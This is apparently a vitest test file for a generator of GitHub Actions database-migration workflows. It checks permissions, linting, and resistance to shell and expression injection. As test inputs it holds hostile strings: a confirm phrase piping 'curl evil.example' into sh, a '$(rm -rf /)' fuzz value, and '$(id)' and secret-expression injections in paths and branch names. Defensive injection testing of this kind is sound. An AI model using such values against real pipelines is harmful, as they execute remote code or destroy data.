import { execFileSync } from "node:child_process";
import { chmod, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { parse } from "yaml";
import type { PipelineFacts, PipelineStage } from "../../src/scaffold/github/facts.js";
import { githubWorkflows } from "../../src/scaffold/github-actions.js";
import { lintWorkflow } from "./actionlint.js";

const stage = (name: string, more: Partial<PipelineStage> = {}): PipelineStage => ({
  name,
  protected: name.startsWith("prod"),
  region: "eu-west-1",
  confirmPhrase: "migrate-production",
  plan: "file",
  snapshots: name.startsWith("prod"),
  tellsHead: true,
  ...more,
});

const facts = (stages: PipelineStage[], more: Partial<PipelineFacts> = {}): PipelineFacts => ({
  version: "1.2.3",
  folder: "",
  stages,
  hasMigrations: true,
  ...more,
});

const anyStages: Record<string, PipelineFacts> = {
  "dev and prod": facts([stage("dev"), stage("prod")]),
  "one without protection, in a folder": facts([stage("dev")], { folder: "services/api" }),
  "Alembic, with requirements, in a folder": facts([stage("dev")], {
    folder: "services/api",
    alembic: { requirements: `back end/$(id)\${{ secrets.TOKEN }}.txt` },
  }),
  "Alembic, and nobody says what it needs": facts([stage("dev")], { alembic: {} }),
  "production alone": facts([stage("prod")], { hasMigrations: false }),
  "a region each, one unknown": facts([
    stage("dev", { region: "us-west-2" }),
    { name: "qa", protected: false, confirmPhrase: "x", plan: "shown", snapshots: true, tellsHead: false },
    stage("prod-eu"),
    stage("prod-cn", { region: "cn-north-1", confirmPhrase: "go china" }),
  ]),
  "no dry-run": facts([stage("dev", { plan: "none", tellsHead: false }), stage("prod", { plan: "none" })]),
  "a dry-run here and none there": facts([
    stage("prod-a", { plan: "none" }),
    stage("prod-b", { plan: "shown" }),
    stage("prod-c"),
  ]),
};

const workflowsOf = (given: PipelineFacts) =>
  Object.fromEntries(
    githubWorkflows(given).files.map(({ path, content }) => [path.split("/")[2] ?? "", content]),
  );

const steps = (text: string): Record<string, unknown>[] =>
  Object.values(parse(text).jobs as Record<string, { steps: Record<string, unknown>[] }>).flatMap(
    (job) => job.steps,
  );

test("actionlint finds what is wrong: an input in a script, an unknown key", async () => {
  const wrong = `on: {workflow_dispatch: {inputs: {a: {type: strin}}}}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps: [{run: 'echo \${{ github.head_ref }}'}]\n`;
  expect((await lintWorkflow(".github/workflows/a.yml", wrong)).length).toBeGreaterThan(1);
});

describe.each(Object.entries(anyStages))("%s", (_, given) => {
  test("actionlint has nothing against any of the workflows", async () => {
    const { files } = githubWorkflows(given);
    expect(files.length).toBeGreaterThan(0);
    for (const { path, content } of files) expect(await lintWorkflow(path, content), content).toEqual([]);
  });

  test("each has the least rights, one run at a time, an end, and scripts without a word of anybody else's", () => {
    for (const [name, text] of Object.entries(workflowsOf(given))) {
      const workflow = parse(text);
      for (const [, job] of Object.entries<Record<string, never>>(workflow.jobs)) {
        expect(job["timeout-minutes"]).toBeGreaterThan(0);
        if (name === "migrate-review.yml") continue;
        expect(workflow.permissions).toEqual({});
        expect(job.permissions).toEqual({ contents: "read", "id-token": "write" });
        expect(job.environment).toBe(`\${{ inputs.stage }}`);
        expect(job.concurrency).toEqual({
          group: `migrate-\${{ inputs.stage }}`,
          "cancel-in-progress": false,
        });
        // Lambda's own longest is 15 minutes; a snapshot has four hours.
        const longest = given.stages.some(({ snapshots }) => snapshots && name.includes("production"))
          ? 240
          : 0;
        expect(job["timeout-minutes"]).toBeGreaterThan(longest + 15);
      }
      for (const { run = "" } of steps(text)) expect(run).not.toContain(`\${{`);
    }
  });

  test("a stage stands in exactly one of the two, by its protection", () => {
    const workflows = workflowsOf(given);
    const options = (name: string) =>
      parse(workflows[name] ?? "{}").on?.workflow_dispatch.inputs.stage.options ?? [];
    const names = (guarded: boolean) =>
      given.stages.filter((s) => s.protected === guarded).map(({ name }) => name);
    expect(options("migrate.yml")).toEqual(names(false));
    expect(options("migrate-production.yml")).toEqual(names(true));
  });
});

test("the review needs no rights and no credentials", () => {
  const review = parse(workflowsOf(facts([stage("dev")]))["migrate-review.yml"] ?? "");
  expect(review.permissions).toEqual({ contents: "read" });
  expect(JSON.stringify(review)).not.toContain("aws");
});

test("whatever the phrases and the folder are, it is YAML, passes actionlint, and nothing of them is evaluated", async () => {
  const text = fc.string({ minLength: 1, maxLength: 60 });
  const hostile = fc.constantFrom(
    `\${{ secrets.TOKEN }}`,
    "a: b\n  - c",
    '"',
    "'",
    "#",
    "$(rm -rf /)",
    "\u2028",
    "%{{",
    "::add-mask::x",
  );
  const phrase = fc.oneof(text, hostile);
  await fc.assert(
    fc.asyncProperty(phrase, phrase, async (first, second) => {
      const given = facts([
        stage("prod-a", { confirmPhrase: first }),
        stage("prod-b", { confirmPhrase: second }),
      ]);
      const production = workflowsOf(given)["migrate-production.yml"] ?? "";
      expect(await lintWorkflow("w.yml", production)).toEqual([]);
      const { description } = parse(production).on.workflow_dispatch.inputs.confirm;
      expect(description).toContain(first.replaceAll(`\${{`, "$ {{"));
      for (const { run = "" } of steps(production)) expect(run).not.toContain(`\${{`);
    }),
    { numRuns: 40 },
  );
});

describe("the scripts, in a real bash", () => {
  let folder: string;
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), "migrate-remote-workflow-"));
    const npx =
      '#!/usr/bin/env bash\nprintf "%s\\0" "$@" >> "$CALLS"; printf "\\n" >> "$CALLS"\ncase " $* " in *" $FAIL "*) exit 5 ;; esac\n';
    await writeFile(join(folder, "npx"), npx);
    await chmod(join(folder, "npx"), 0o755);
  });
  afterAll(() => rm(folder, { recursive: true, force: true }));

  /** Runs every script of a workflow as GitHub does; gives the commands, each with its arguments, and the summary. */
  async function carriedOut(workflow: string, env: Record<string, string>) {
    const [calls, summary] = [join(folder, "calls"), join(folder, "summary")];
    await Promise.all([writeFile(calls, ""), writeFile(summary, "")]);
    const environment = {
      PATH: `${folder}:${process.env.PATH}`,
      CALLS: calls,
      RUNNER_TEMP: "/tmp/runner",
      GITHUB_STEP_SUMMARY: summary,
      GITHUB_ACTOR: "ann",
      GITHUB_TRIGGERING_ACTOR: "bob",
      GITHUB_SHA: "c0ffee",
      FAIL: "nothing",
      ...env,
    };
    let failed = false;
    for (const { run } of steps(workflow)) {
      if (typeof run !== "string" || failed) continue;
      try {
        execFileSync("bash", ["--noprofile", "--norc", "-eo", "pipefail", "-c", run], {
          env: environment,
          stdio: "pipe",
        });
      } catch {
        failed = true;
      }
    }
    const lines = (await readFile(calls, "utf8")).split("\0\n").slice(0, -1);
    return {
      commands: lines.map((line) => line.split("\0")),
      summary: await readFile(summary, "utf8"),
      failed,
    };
  }

  const production = workflowsOf(facts([stage("prod")]))["migrate-production.yml"] ?? "";
  const asked = { STAGE: "prod", REASON: "", REUSE_SNAPSHOT: "", ALLOW_DESTRUCTIVE: "false" };
  const npx = ["--yes", "migrate-remote@1.2.3", "run", "--stage"];

  test("production: the plan is made, and that very plan applied, with the phrase as it was typed", async () => {
    const PHRASE = '"; curl evil.example | sh; echo "$(id)';
    const end = await carriedOut(production, { ...asked, PHRASE });
    expect(end.commands).toEqual([
      [
        ...npx,
        "prod",
        `--confirm=${PHRASE}`,
        "--dry-run",
        "--out",
        "/tmp/runner/plan.json",
        "--require-head",
      ],
      [...npx, "prod", `--confirm=${PHRASE}`, "--plan", "/tmp/runner/plan.json"],
    ]);
  });

  test("production: where a head cannot be compared it is not asked for", async () => {
    const untold = facts([stage("prod", { tellsHead: false }), stage("prod-eu")]);
    const workflow = workflowsOf(untold)["migrate-production.yml"] ?? "";
    expect((await carriedOut(workflow, { ...asked, PHRASE: "p" })).commands[0]?.at(-1)).toBe(
      "/tmp/runner/plan.json",
    );
    expect(workflow).not.toMatch(/require-head|is refused/);
  });

  test("production: what is asked for is handed on, and the record says who, what and why, whatever they typed", async () => {
    const REASON = "# not a heading\n<script>";
    const end = await carriedOut(production, {
      ...asked,
      PHRASE: "p",
      REASON,
      REUSE_SNAPSHOT: "30m",
      ALLOW_DESTRUCTIVE: "true",
    });
    expect(end.commands[1]).toEqual(
      expect.arrayContaining(["--allow-destructive", "--reuse-snapshot", "30m"]),
    );
    expect(end.summary).toContain("| ann (this attempt: bob) | c0ffee | prod |");
    expect(end.summary).toContain("    # not a heading\n    <script>\n");
  });

  test("production: where the plan fails nothing is run, and the job fails", async () => {
    const end = await carriedOut(production, { ...asked, PHRASE: "p", FAIL: "--dry-run" });
    expect(end.failed).toBe(true);
    expect(end.commands).toHaveLength(1);
  });

  test("a contract without a dry-run gets no plan, and goes without one only where somebody says so", async () => {
    const blind = workflowsOf(facts([stage("prod", { plan: "none" })]))["migrate-production.yml"] ?? "";
    const run = [...npx, "prod", "--confirm=p"];
    const without = { ...asked, PHRASE: "p" };
    expect((await carriedOut(blind, { ...without, WITHOUT_PLAN: "false" })).commands).toEqual([run]);
    expect((await carriedOut(blind, { ...without, WITHOUT_PLAN: "true" })).commands).toEqual([
      [...run, "--without-plan"],
    ]);
  });

  test("each protected stage is planned as its contract can", async () => {
    const mixed =
      workflowsOf(anyStages["a dry-run here and none there"] as PipelineFacts)["migrate-production.yml"] ??
      "";
    const given = { ...asked, PHRASE: "p", WITHOUT_PLAN: "false" };
    for (const [STAGE, count] of [
      ["prod-a", 1],
      ["prod-b", 1],
      ["prod-c", 2],
    ] as const)
      expect((await carriedOut(mixed, { ...given, STAGE })).commands).toHaveLength(count);
  });

  test("the SQL of Alembic's migrations can be reviewed: what they import is installed first", async () => {
    const pip = '#!/usr/bin/env bash\nprintf "%s\\0" pip "$@" >> "$CALLS"; printf "\\n" >> "$CALLS"\n';
    await writeFile(join(folder, "python3"), pip);
    await chmod(join(folder, "python3"), 0o755);
    const install = async (alembic: PipelineFacts["alembic"]) => {
      const given = facts([stage("dev")], alembic === undefined ? {} : { alembic });
      const review = workflowsOf(given)["migrate-review.yml"] ?? "";
      const step = steps(review).find(({ env }) => env !== undefined);
      const env = { GITHUB_BASE_REF: "main", ...(step?.env as Record<string, string> | undefined) };
      return (await carriedOut(review, env)).commands.map((words) => words.slice(0, 6));
    };
    const lint = ["--yes", "migrate-remote@1.2.3", "lint", "--base", "origin/main"];
    const begin = ["pip", "-m", "pip", "install", "--quiet"];
    expect(await install({ requirements: "$(id)/all.txt" })).toEqual([[...begin, "-r"], lint]);
    expect(await install({})).toEqual([[...begin, "alembic"], lint]);
    expect(await install(undefined)).toEqual([lint]);
  });

  test("a pull request's migrations are reviewed against the branch that they go to", async () => {
    const review = workflowsOf(facts([stage("dev")]))["migrate-review.yml"] ?? "";
    const [checkout] = steps(review);
    expect(checkout?.with).toMatchObject({ "fetch-depth": 0 });
    const { commands } = await carriedOut(review, { GITHUB_BASE_REF: "release/$(id)" });
    expect(commands).toEqual([["--yes", "migrate-remote@1.2.3", "lint", "--base", "origin/release/$(id)"]]);
  });

  test("after a deployment: one run, which fails the job when it fails", async () => {
    const deploy = workflowsOf(facts([stage("dev")]))["migrate.yml"] ?? "";
    const command = [...npx, "dev", "--require-head", "--wait-lock", "15m"];
    expect(await carriedOut(deploy, { STAGE: "dev" })).toMatchObject({ commands: [command], failed: false });
    expect(await carriedOut(deploy, { STAGE: "dev", FAIL: "dev" })).toMatchObject({ failed: true });
  });
});
